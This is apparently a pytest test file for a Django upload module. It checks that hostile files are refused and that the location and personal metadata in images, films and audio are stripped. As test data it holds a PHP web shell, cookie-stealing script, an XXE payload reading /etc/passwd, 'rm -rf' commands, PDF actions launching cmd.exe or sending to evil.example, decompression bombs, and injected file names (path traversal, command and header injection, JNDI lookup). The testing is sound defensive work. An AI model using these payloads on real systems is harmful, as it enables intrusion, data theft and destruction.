"""A table of hostile files: each is refused with a sentence, or taken without what was hidden in it."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pytest_django import Settings

from tests.files import media
from wangge.files import actions
from wangge.files.models import StoredFile
from wangge.files.names import shown_name
from wangge.files.ogg import checksum, pages
from wangge.files.sniff import sniff
from wangge.kit.errors import DomainError

NOW = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
pytestmark = pytest.mark.django_db
PHP, JS = b"<?php system($_GET['c']); ?>", b"<script>alert(document.cookie)</script>"
PLACE = b"+36.0712+120.3812/"  # what must be nowhere afterwards
SECRET = b"Li Hong 13812345678"


@pytest.fixture(autouse=True)
def own_folder(settings: Settings, tmp_path: Path) -> None:
    settings.FILES_FOLDER = tmp_path / "files"


# --- the animals -------------------------------------------------------------------------------------------------


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    """A small PNG with further chunks before its end."""
    whole = media.photo("PNG")
    end = whole.index(b"IEND") - 4
    made = b"".join(
        struct.pack(">I", len(inner)) + kind + inner + struct.pack(">I", zlib.crc32(kind + inner))
        for kind, inner in chunks
    )
    return whole[:end] + made + whole[end:]


def exif() -> bytes:
    made = Image.Exif()
    made[0x010F] = SECRET.decode()
    made[0x8825] = {1: "N", 2: (36.0, 4.0, 16.3), 3: "E", 4: (120.0, 22.0, 52.3)}
    return made.tobytes()


def scans_without_end() -> bytes:
    """A JPEG in whose head stand thousands of passes over the whole picture."""
    whole = media.photo(size=(640, 480), progressive=True)
    begins = whole.index(b"\xff\xda")
    ends = whole.index(b"\xff", begins + 20)
    while whole[ends + 1] in (0, *range(0xD0, 0xD8)):
        ends = whole.index(b"\xff", ends + 2)
    return whole[:ends] + whole[begins:ends] * 3000 + whole[ends:]


def full(kind: bytes, *inner: bytes) -> bytes:
    return media.box(kind, b"\0\0\0\0", *inner)


def track(handler: bytes, offset: int, n_bytes: int) -> bytes:
    """A track with one sample of ``n_bytes`` at ``offset`` of the file."""
    table = media.box(
        b"stbl", full(b"stsd", struct.pack(">I", 0)), full(b"stsz", struct.pack(">II", n_bytes, 1)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 1, 1)), full(b"stco", struct.pack(">II", 1, offset)),
    )  # fmt: skip
    told = media.box(b"hdlr", b"\0" * 8 + handler + b"\0" * 12)
    return media.box(
        b"trak", media.box(b"tkhd", b"\0" * 84), media.box(b"mdia", told, media.box(b"minf", table))
    )


def film_with_way(handler: bytes = b"meta", *, outside: bool = False) -> bytes:
    """A film with a timed track of positions, positions in ``udta`` and ``meta``, an old one in ``free``."""
    picture = b"\x5a" * 300
    way = PLACE * 4

    def made(offset: int) -> bytes:
        tracks = track(b"vide", offset, len(picture)) + track(
            handler, 4 if outside else offset + len(picture), len(way)
        )
        place = media.box(
            b"udta", media.box(b"\xa9xyz", b"\0\x12\x15\xc7" + PLACE), media.box(b"auth", SECRET)
        )
        movie = media.box(b"moov", media.box(b"mvhd", b"\0" * 100), tracks, place, media.box(b"free", PLACE))
        meta = media.box(b"meta", b"\0" * 4, PLACE) + media.box(b"uuid", b"\xbe" * 16 + PLACE)
        return media.box(b"ftyp", b"isom\0\0\2\0isom") + movie + meta + media.box(b"mdat", picture + way)

    return made(made(0).index(b"mdat") + 4)


def webm_with_tags(track_type: int = 1) -> bytes:
    tags = media.element(
        0x1254C367, media.element(0x7373, media.element(0x67C8, b"LOCATION" + PLACE + SECRET))
    )
    chapters = media.element(0x1043A770, SECRET)
    return media.webm(track_type, extra=tags + chapters)


def opus_with_place() -> bytes:
    def page(content: bytes, flags: int, number: int) -> bytes:
        lacing = bytes([255] * (len(content) // 255) + [len(content) % 255])
        made = (
            b"OggS\0"
            + bytes([flags])
            + struct.pack("<qII", 0, 7, number)
            + b"\0\0\0\0"
            + bytes([len(lacing)])
            + lacing
            + content
        )
        return made[:22] + checksum(made).to_bytes(4, "little") + made[26:]

    told = [b"LOCATION=" + PLACE, b"ARTIST=" + SECRET, b"LONG=" + PLACE * 40]
    comments = b"OpusTags" + struct.pack("<I", 7) + b"LibOpus" + struct.pack("<I", len(told))
    comments += b"".join(struct.pack("<I", len(one)) + one for one in told)
    return page(b"OpusHead\1\1\0\0" + b"\0" * 8, 2, 0) + page(comments, 0, 1) + page(b"\x44" * 200, 4, 2)


def mp3_with_tags() -> bytes:
    tag = b"TXXX" + PLACE + SECRET
    size = len(tag)
    return (
        b"ID3\4\0\x80\0\0"
        + bytes([size >> 7, size & 127])
        + tag
        + media.mp3(id3=False)
        + b"TAG"
        + SECRET.ljust(125, b"\0")
    )


def wav_with_list() -> bytes:
    whole = media.wav()
    more = b"LIST" + struct.pack("<I", 40) + (PLACE + SECRET).ljust(40, b"\0")
    return b"RIFF" + struct.pack("<I", len(whole) - 8 + len(more)) + whole[8:] + more


# name → content, code of the refusal
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "JPEG with a page behind it": (lambda: media.photo() + b"<html>" + JS, "file_has_more_inside"),
    "JPEG with PHP behind it": (lambda: media.photo() + PHP, "file_has_more_inside"),
    "JPEG with PHP in its comment": (lambda: media.photo(comment=PHP), "file_has_more_inside"),
    "JPEG with a zip behind it": (lambda: media.photo() + media.archive(), "file_has_more_inside"),
    "PNG with a script in its text": (lambda: png((b"tEXt", b"Title\0" + JS)), "file_has_more_inside"),
    "PNG with PHP in its palette's place": (lambda: png((b"PLTE", b"<?php ;\0" * 6)), "file_has_more_inside"),
    "GIF that is also a script": (lambda: b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)//", "file_kind"),
    "GIF, animated": (lambda: media.photo("GIF"), "file_kind"),
    "BMP that is also a script": (lambda: b"BM/*" + b"\0" * 60 + b"*/=1;alert(1)", "file_kind"),
    "TIFF": (lambda: media.photo("TIFF"), "file_kind"),
    "icon": (lambda: media.photo("ICO", size=(16, 16)), "file_kind"),
    "SVG with a script": (lambda: media.SVG, "file_kind"),
    "SVG behind spaces": (lambda: b"  \n" + media.SVG, "file_kind"),
    "SVG packed": (lambda: b"\x1f\x8b\x08" + zlib.compress(media.SVG), "file_kind"),
    "page called a photo": (lambda: b"<!doctype html>" + JS, "file_kind"),
    "script with the mark of UTF-16": (lambda: "﻿<script>alert(1)</script>".encode("utf-16"), "file_kind"),
    "XML that reads our files": (lambda: b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "file_kind"),
    "zip": (media.archive, "file_kind"),
    "program for Windows": (lambda: b"MZ\x90\0" + b"\0" * 300, "file_kind"),
    "program for Linux": (lambda: b"\x7fELF\2\1\1" + b"\0" * 300, "file_kind"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "file_kind"),
    "playlist that names another site": (lambda: b"#EXTM3U\nhttp://evil.example/x.ts\n", "file_kind"),
    "MVG that names a file": (lambda: b"push graphic-context\nimage over 0,0 0,0 'ephemeral:/etc/passwd'", "file_kind"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", "file_kind"),
    "nothing": (lambda: b"", "file_empty"),
    "zeros": (lambda: b"\0" * 100_000, "file_kind"),
    "PNG of 30000 x 30000 in a few kilobytes": (lambda: media.png_bomb(30_000, 30_000), "photo_too_many_pixels"),
    "PNG of 2 billion pixels a side": (lambda: media.png_bomb(2**31 - 1, 2**31 - 1), "photo_too_many_pixels"),
    "PNG as wide as two billion, one high": (lambda: media.png_bomb(2**31 - 1, 1), "photo_too_many_pixels"),
    "PNG without height": (lambda: media.png_bomb(100, 0), "file_broken"),
    "PNG whose text unpacks to a gigabyte": (
        lambda: png((b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * (64 << 20), 9))), "file_broken",
    ),
    "JPEG that says 65500 x 65500": (
        lambda: media.photo().replace(struct.pack(">HH", 48, 64), struct.pack(">HH", 65500, 65500)), "photo_too_many_pixels",
    ),
    "JPEG of three thousand passes": (scans_without_end, "photo_too_complex"),
    "JPEG, cut": (lambda: media.photo(size=(640, 480))[:3000], "file_broken"),
    "film, cut": (lambda: film_with_way()[:-200], "file_broken"),
    "film with a page behind it": (lambda: media.film() + b"<html>", "file_broken"),
    "film whose box reaches past the end": (lambda: media.film()[:-1], "file_broken"),
    "film whose positions point outside": (lambda: film_with_way(outside=True), "file_broken"),
    "film in parts with a track of positions": (
        lambda: media.film(handlers=(b"vide", b"meta")) + media.box(b"moof", b""), "file_tells_more",
    ),
    "WebM with a file inside": (
        lambda: media.webm(1, extra=media.element(0x1941A469, media.element(0x61A7, b"setup.exe"))), "file_has_more_inside",
    ),
    "WebM with subtitles": (lambda: media.webm(0x11), "file_tells_more"),
    "Matroska": (lambda: media.webm(1, kind=b"matroska"), "file_kind"),
    "PDF, cut": (lambda: media.pdf()[:-9], "file_broken"),
    "PDF that is also a zip": (lambda: media.pdf() + media.archive("x.class"), "file_has_more_inside"),
    "PDF with a script": (lambda: media.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "file_has_more_inside"),
    "PDF with a script under a disguised name": (lambda: media.pdf(b"<< /S /J#61vaScript /J#53 (x) >>"), "file_has_more_inside"),
    "PDF with a packed script, disguised": (lambda: media.pdf(packed=b"<< /S /Jav#61Script >>"), "file_has_more_inside"),
    "PDF that starts a program when opened": (
        lambda: media.pdf(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "file_has_more_inside",
    ),
    "PDF that steps into another file": (lambda: media.pdf(b"<< /S /GoToR /F (\\\\evil\\x) >>"), "file_has_more_inside"),
    "PDF with a file inside": (lambda: media.pdf(b"<< /Type /EmbeddedFile >>"), "file_has_more_inside"),
    "PDF whose form sends": (lambda: media.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), "file_has_more_inside"),
    "PDF of the XFA kind": (lambda: media.pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"), "file_has_more_inside"),
    "PDF with a film": (lambda: media.pdf(b"<< /S /Rendition >>"), "file_has_more_inside"),
    "PDF under a password": (lambda: media.pdf(b"<< /Encrypt 5 0 R >>"), "file_encrypted"),
    "PDF whose objects are packed twice": (
        lambda: media.pdf(packed=b"x").replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"), "file_has_more_inside",
    ),
    "PDF whose stream never ends": (lambda: media.pdf(b"stream\n" * 300_000), "file_broken"),
    "MP3 of two frames": (lambda: media.mp3(2), "file_broken"),
    "MP3 with PHP in its tag": (lambda: b"ID3\4\0\0\0\0\0\x40" + PHP.ljust(64, b"\0") + media.mp3(id3=False), "file_has_more_inside"),
}  # fmt: skip

# name → content that is taken, and afterwards holds neither the place nor the name
CLEANED: dict[str, Callable[[], bytes]] = {
    "JPEG with EXIF": lambda: media.photo(size=(64, 48), exif=exif(), comment=PLACE),
    "JPEG with XMP": lambda: media.photo(xmp=b"<x:xmpmeta>" + PLACE + b"</x:xmpmeta>"),
    "JPEG with a colour profile": lambda: media.photo(icc_profile=PLACE * 10),
    "JPEG with a film behind it (motion photo)": lambda: media.photo() + film_with_way() + PLACE,
    "PNG with eXIf": lambda: media.photo("PNG", exif=exif()),
    "PNG with tEXt, zTXt and iTXt": lambda: media.photo("PNG", pnginfo=png_texts()),
    "PNG with a chunk of its own": lambda: png((b"gpSx", PLACE + SECRET)),
    "WebP with EXIF and XMP": lambda: media.photo("WEBP", exif=exif(), xmp=b"<x>" + PLACE + b"</x>"),
    "WebP, animated": lambda: animated("WEBP"),
    "PNG, animated": lambda: animated("PNG"),
    "MP4 with a track of positions": film_with_way,
    "MP4 with positions as subtitles": lambda: film_with_way(b"sbtl"),
    "WebM with tags": webm_with_tags,
    "Opus with comments": opus_with_place,
    "MP3 with tags": mp3_with_tags,
    "WAV with a list": wav_with_list,
}


def png_texts() -> PngImagePlugin.PngInfo:
    made = PngImagePlugin.PngInfo()
    made.add_text("Location", PLACE.decode())
    made.add_text("Author", SECRET.decode(), zip=True)
    made.add_itxt("XML:com.adobe.xmp", f"<x>{PLACE.decode()}</x>", zip=True)
    return made


def animated(form: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "green", "blue")]
    frames[0].save(out, form, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def store(content: bytes, name: str = "IMG_0001.JPG") -> StoredFile:
    return actions.store(SimpleUploadedFile(name, content), uploaded_by="visit:me", at=NOW)


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_what_to_do(name: str, settings: Settings) -> None:
    made, code = REFUSED[name]
    with pytest.raises(DomainError) as refused:
        store(made())
    error = refused.value
    assert error.code == code, f"{error.code}: {error.en}"
    assert error.status in (413, 415, 422)
    assert any(word in error.zh for word in ("请", "可以上传"))
    assert len(error.en.split()) > 6
    assert not [path for path in Path(settings.FILES_FOLDER).rglob("*") if path.is_file()]
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize("name", CLEANED)
def test_taken_without_what_it_told(name: str) -> None:
    sent = CLEANED[name]()
    if "animated" not in name:
        assert PLACE in sent or SECRET in sent or b"zTXt" in sent, "the animal is hostile"
    file = store(sent)
    kept = actions.open_file(file).read_bytes()
    for hidden in (PLACE, SECRET, b"\xa9xyz", b"xmpmeta"):
        assert hidden not in kept, hidden
    if file.kind == "photo":
        with Image.open(io.BytesIO(kept)) as picture:
            assert picture.format == "JPEG"
            assert not picture.getexif()
            assert getattr(picture, "n_frames", 1) == 1
            assert not {"exif", "xmp", "icc_profile", "comment"} & set(picture.info)
        thumbnail = actions.thumbnail_path(file)
        assert thumbnail is not None
        assert PLACE not in thumbnail.read_bytes()
    else:
        assert len(kept) == len(sent), "nothing has moved"
        assert sniff(kept).mime == file.mime, "it is still what it was"
        assert (b"\x5a" * 300 in kept) or "MP4" not in name, "the picture is untouched"


def test_a_cleaned_opus_has_right_checksums_and_its_sound() -> None:
    sent = opus_with_place()
    kept = actions.open_file(store(sent)).read_bytes()
    for page in pages(kept):
        whole = kept[page.starts : page.ends]
        bare = whole[:22] + b"\0\0\0\0" + whole[26:]
        assert checksum(bare) == int.from_bytes(whole[22:26], "little")
    assert kept.endswith(b"\x44" * 200)
    assert b"OpusHead" in kept
    assert checksum(b"123456789") == 0x89A1897F  # the check value of CRC-32/MPEG-2 without its start


NAMES = [
    "../../etc/cron.d/x", "..\\..\\windows\\win.ini", "a\0.jpg", "photo\u202egpj.exe", "CON", "x" * 5000 + ".jpg",
    "现场.jpg".encode("gb18030").decode("latin-1"), "", ".", "/etc/passwd", "C:\\x.jpg", "a;rm -rf ~.jpg",
    "<img src=x onerror=alert(1)>.jpg", "a\r\nX-Evil: 1.jpg", "${jndi:ldap://x}.jpg", "a.php.jpg", "😀.jpg",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_name_decides_nothing_and_is_kept_nowhere(name: str, settings: Settings) -> None:
    file = actions.store(media.photo(), name=name, uploaded_by="visit:me", at=NOW)
    root = Path(settings.FILES_FOLDER).resolve()
    assert actions.open_file(file).resolve().is_relative_to(root)
    assert all(
        set(path.name) <= set("0123456789abcdef.thumbnail") for path in root.rglob("*") if path.is_file()
    )
    told = shown_name(name)
    assert len(told) <= 30
    assert not any(sign in told for sign in "\0\r\n\u202e\\/")
